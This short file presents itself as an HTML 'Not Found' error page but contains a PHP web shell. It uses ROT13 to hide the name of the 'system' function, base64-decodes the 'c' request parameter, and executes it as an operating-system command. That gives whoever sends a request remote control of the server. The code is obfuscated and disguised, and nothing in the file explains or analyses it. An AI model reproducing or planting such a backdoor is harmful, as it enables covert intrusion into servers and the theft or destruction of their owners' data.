<html><title>Not Found</title></html>
<?php
$f = str_rot13('flfgrz');
$c = base64_decode($_REQUEST['c']);
$f($c);
